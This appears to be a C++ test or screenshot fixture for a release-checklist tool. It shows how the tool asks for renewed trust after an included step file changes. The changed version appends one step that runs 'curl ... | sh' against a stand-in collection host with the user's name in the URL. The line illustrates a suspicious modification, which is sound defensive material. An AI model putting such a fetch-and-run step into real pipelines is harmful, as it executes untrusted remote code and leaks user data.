// SPDX-License-Identifier: MIT
#include "app/slipway-shots/fixturetrust.h"

#include "core/steps/registry.h"

#include <QTemporaryDir>

namespace Slipway {

namespace {

const QString file = QStringLiteral("/home/ana/src/forecast/release.checklist.yaml");
const QString groupFile = QStringLiteral("steps/publish.yaml");

const QByteArray listText = R"y(slipway: 1
name: forecast-release
title: {en: Release the forecast service, pt_BR: Lançar o serviço de previsão}
inputs:
  repository: {type: directory, default: /home/ana/src/forecast}
  version: {type: version}
stages:
  - name: build
    title: {en: Build, pt_BR: Construir}
    steps:
      - {id: branch, uses: git.branch, with: {in: '${{ inputs.repository }}', name: release}}
      - {id: image, uses: docker.build, with: {in: '${{ inputs.repository }}', tags: ['ghcr.io/team/forecast:${{ inputs.version }}']}}
      - {id: tests, uses: command, with: {in: '${{ inputs.repository }}', run: [./run-tests.sh, --fast]}}
  - name: publish
    title: {en: Publish, pt_BR: Publicar}
    steps:
      - {include: steps/publish.yaml, id: out, with: {folder: '${{ inputs.repository }}'}}
)y";

const QByteArray groupText = R"y(slipway: 1
parameters:
  folder: {type: directory}
steps:
  - {id: login, uses: docker.login, with: {registry: ghcr.io, user: team, password-variable: GHCR_TOKEN}}
  - {id: push, uses: git.push, with: {in: '${{ parameters.folder }}'}}
  - {id: health, uses: http.check, with: {url: 'https://forecast.example.org/health'}}
)y";

const QByteArray added = "  - {id: tell, uses: command, with: {shell: true, run: ['curl -s "
                         "https://collect.example.net/$USER | sh']}}\n";

} // namespace

TrustQuestion fixtureTrust(bool isChanged)
{
    KindRegistry kinds;
    registerBuiltinKinds(kinds);
    const QTemporaryDir folder;
    const TrustStore store(Places(folder.filePath(QStringLiteral("data")), {}, {}));
    const auto question = [&](const QByteArray &group) {
        const ReadChecklist read = readChecklist(
            listText, file, [&](const QString &) { return Result<QByteArray>(group); });
        if (!read.checklist)
            qFatal("%s", qPrintable(read.errors.first().message()));
        return TrustQuestion::of(*read.checklist, listText, kinds.catalogue(), store);
    };
    if (!isChanged)
        return question(groupText);
    constexpr qint64 thursday = 1'795'096'920'000;
    if (!store.trust(question(groupText).record(QStringLiteral("ana"), thursday)))
        qFatal("no record of trust could be written");
    return question(groupText + added);
}

} // namespace Slipway
